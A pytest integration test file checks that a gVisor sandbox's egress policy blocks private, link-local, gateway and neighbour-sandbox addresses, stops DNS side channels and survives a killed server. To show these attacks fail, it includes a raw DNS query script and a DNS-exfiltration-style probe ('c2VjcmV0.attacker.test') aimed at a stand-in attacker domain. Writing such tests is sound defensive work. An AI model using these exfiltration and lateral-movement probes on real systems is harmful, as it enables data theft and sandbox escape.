"""Egress a policy cannot open (gVisor classes Lateral / HostLeak / Exfil; attacker = SandboxRoot
with a permissive `network` config of its own choosing).

- allowOut naming private, link-local (cloud metadata's range), CGNAT-free host addresses, the
  gateway or a neighbour sandbox reopens none of them: the always-denied ranges come first.
- In allowlist mode DNS is no side channel: names off the list are REFUSED by the node and never
  forwarded, and resolvers elsewhere are unreachable.
- Policies survive a SIGKILLed server: the sandbox keeps its rules while the server is down and
  after it is back.

Targets live in a namespace of the test's own (`tests.network_fixtures.FakeNet`) or on the host's
bridge; every blocked probe has a control that succeeds from where it should.
"""

from __future__ import annotations

import contextlib
import ipaddress
import shlex
import signal
import socket
import threading
from collections.abc import Iterator

import pytest

from tests.conftest import TEST_BRIDGE, TEST_SUBNET, ServerProcess
from tests.network_fixtures import FakeNet, fake_net, run
from tests.security.conftest import SandboxFactory

pytestmark = [pytest.mark.integration, pytest.mark.compat, pytest.mark.timeout(240)]

ALL_TRAFFIC = "0.0.0.0/0"
GATEWAY = str(ipaddress.IPv4Network(TEST_SUBNET).network_address + 1)

DNS_QUERY = r"""
import random, socket, struct, sys
server = sys.argv[2] if len(sys.argv) > 2 else [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[1].split(".")) + b"\0" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(q, (server, 53))
try:
    r = s.recv(4096)
    print({0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}.get(r[3] & 15, r[3] & 15))
except socket.timeout:
    print("timeout")
"""


@pytest.fixture(scope="module")
def inet() -> Iterator[FakeNet]:
    with fake_net("fs", TEST_BRIDGE, TEST_SUBNET) as net:
        yield net


@contextlib.contextmanager
def host_listener() -> Iterator[int]:
    """A TCP service on every host address (so also on the sandbox gateway): answers `host`."""
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 0))
    server.listen(16)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.sendall(b"host\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        stop.set()
        thread.join(5)
        server.close()


def sh(sbx, command: str) -> str:
    return sbx.commands.run(f"{command} || echo blocked", timeout=30).stdout.strip()


def curl(sbx, url: str, resolve: str | None = None) -> str:
    extra = f"--resolve {shlex.quote(resolve)} " if resolve else ""
    # 2 s to connect: the allowed controls must not time out on a loaded gVisor run
    return sh(sbx, f"curl -sS -k --connect-timeout 2 --max-time 5 {extra}{shlex.quote(url)} 2>/dev/null")


def tcp(sbx, host: str, port: int) -> str:
    code = f"import socket; s=socket.create_connection(({host!r}, {port}), timeout=1); print(s.recv(64).decode().strip())"
    return sh(sbx, f"python3 -c {shlex.quote(code)} 2>/dev/null")


def test_allow_out_cannot_reopen_always_denied_ranges(make_sandbox: SandboxFactory, inet: FakeNet) -> None:
    neighbour = make_sandbox()
    neighbour.commands.run("python3 -m http.server 8080", background=True)
    neighbour_ip = neighbour.commands.run("hostname -I").stdout.split()[0]
    # python needs a moment to listen (seconds on a loaded gVisor run): wait for it, inside
    neighbour.commands.run(
        "for i in $(seq 300); do curl -s -o /dev/null http://127.0.0.1:8080/ && exit; sleep 0.1; done; exit 1"
    )
    host_ip = run("ip", "-4", "-o", "addr", "show", "dev", "eth0", check=False).stdout.split()
    host_ip = host_ip[3].split("/")[0] if len(host_ip) > 3 else "192.0.2.2"
    greedy_list = [inet.private, inet.link_local, "172.16.0.0/12", "169.254.0.0/16", "10.0.0.0/8",
                   "192.168.0.0/16", "100.64.0.0/10", "127.0.0.0/8", host_ip, GATEWAY, neighbour_ip,
                   inet.host_a, "*"]  # fmt: skip
    greedy = make_sandbox(network={"allow_out": greedy_list, "deny_out": [ALL_TRAFFIC]})
    with host_listener() as port:
        # controls: each target answers where it may be reached from
        assert run("curl", "-s", f"http://{inet.private}/").stdout.startswith("host=")
        assert run("curl", "-s", f"http://{inet.link_local}/").stdout.startswith("host=")
        assert "Directory listing" in run("curl", "-s", f"http://{neighbour_ip}:8080/").stdout
        with socket.create_connection((GATEWAY, port), timeout=2) as s:
            assert s.recv(10) == b"host\n"
        assert curl(greedy, f"http://{inet.host_a}/").startswith("host=")  # the policy does apply

        assert curl(greedy, f"http://{inet.private}/") == "blocked"
        assert curl(greedy, f"http://{inet.link_local}/") == "blocked"
        assert curl(greedy, f"http://{neighbour_ip}:8080/") == "blocked"
        assert tcp(greedy, GATEWAY, port) == "blocked"
        assert tcp(greedy, host_ip, port) == "blocked"
        # by name: "*" allows any name, never a denied address behind it
        assert curl(greedy, "https://allowed.test/", f"allowed.test:443:{inet.private}") == "blocked"
        assert curl(greedy, "http://allowed.test/", f"allowed.test:80:{inet.link_local}") == "blocked"
        assert curl(greedy, "https://allowed.test/", f"allowed.test:443:{inet.host_b}").startswith(
            "host=allowed.test"
        )


def test_dns_is_no_side_channel_in_allowlist_mode(make_sandbox: SandboxFactory, inet: FakeNet) -> None:
    sbx = make_sandbox(network={"allow_out": ["allowed.test"], "deny_out": [ALL_TRAFFIC]})
    for name in ("c2VjcmV0.attacker.test", "denied.test", "allowed.test.attacker.test"):
        assert sh(sbx, f"python3 -c {shlex.quote(DNS_QUERY)} {name}") == "REFUSED"
    # no resolver elsewhere: UDP and TCP 53 out are dropped like everything not allowed
    assert sh(sbx, f"python3 -c {shlex.quote(DNS_QUERY)} x.test {inet.host_b}") == "timeout"
    assert tcp(sbx, inet.host_b, 8080) == "blocked"
    assert "tls=yes" in curl(sbx, "https://allowed.test/", f"allowed.test:443:{inet.host_b}")  # control


def test_policy_holds_across_a_killed_server(
    corral_server: ServerProcess, make_sandbox: SandboxFactory, inet: FakeNet
) -> None:
    sbx = make_sandbox(network={"allow_out": ["allowed.test"], "deny_out": [ALL_TRAFFIC]})
    assert "tls=yes" in curl(sbx, "https://allowed.test/", f"allowed.test:443:{inet.host_a}")
    corral_server.stop(signal.SIGKILL)
    try:
        # while the server is down: no proxy to decide, so inspected connections fail closed
        ns = f"{TEST_BRIDGE}-{sbx.sandbox_id}"
        probe = ["ip", "netns", "exec", ns, "curl", "-sk", "--connect-timeout", "2", "--max-time", "4"]
        assert (
            run(
                *probe, "--resolve", f"denied.test:443:{inet.host_a}", "https://denied.test/", check=False
            ).returncode
            != 0
        )
        assert run(*probe, f"http://{inet.host_b}:8080/", check=False).returncode != 0
    finally:
        corral_server.start()
    assert "tls=yes" in curl(sbx, "https://allowed.test/", f"allowed.test:443:{inet.host_a}")
    assert curl(sbx, "https://denied.test/", f"denied.test:443:{inet.host_a}") == "blocked"
    assert sbx.get_info().network["allow_out"] == ["allowed.test"]  # type: ignore[index]
